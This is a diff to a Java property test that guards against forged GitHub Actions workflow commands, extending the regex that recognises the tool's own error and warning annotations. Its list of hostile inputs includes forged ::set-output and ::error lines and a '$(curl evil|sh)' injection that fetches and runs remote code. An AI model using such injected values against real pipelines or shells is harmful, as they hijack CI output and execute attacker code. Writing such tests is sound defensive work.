@@ -39,8 +39,16 @@ class WorkflowCommandForgeryProperties {
   private static final List<String> NASTY = List.of("\n", "\r", "\r\n", "::", "::set-output name=cadence::release",
       "\n::error title=x::forged", "\r::warning::x", "%", "%0A", "%25", "##[error]forged", "\u0000", "\u2028",
       "\u0085", "\u00a0::", "\t::", "\u00e9\u4e2d\ud83d\ude00", "\ud800", ",", ":", "'", "\"", "\\", "$(curl evil|sh)");
-  /** Our own command: {@code ::error::} or {@code ::warning::}, data without raw CR/LF. */
-  private static final Pattern OURS = Pattern.compile("::(error|warning)::[^\r\n]*");
+  /**
+   * Our own command: {@code ::error} or {@code ::warning}, optionally with the annotation properties {@code file},
+   * {@code line}, {@code col} and {@code title} (each at most once, in that order, a value holding no raw {@code :},
+   * {@code ,}, CR or LF, so that an escaped value cannot end the properties early), then data without raw CR/LF.
+   */
+  static final Pattern OURS = Pattern.compile("::(error|warning)"
+      + "(?: (?:file=[^,:\r\n]*,line=[1-9][0-9]*,col=[1-9][0-9]*,|file=[^,:\r\n]*,)?title=[a-z0-9][a-z0-9-]*)?"
+      + "::[^\r\n]*");
+  /** The start of an error annotation of ours, with or without properties. */
+  static final Pattern OUR_ERROR = Pattern.compile("::error[ :]");
   private static final ObjectMapper JSON = new ObjectMapper();
 
   @TempDir
@@ -86,7 +94,8 @@ class WorkflowCommandForgeryProperties {
       }
     }
     if (r.code() != 0) {
-      assertThat(r.err()).as(context).contains("::error::");
+      assertThat(r.err().lines().anyMatch(l -> OUR_ERROR.matcher(l).lookingAt())).as(context + ": an error line")
+          .isTrue();
     }
   }
 
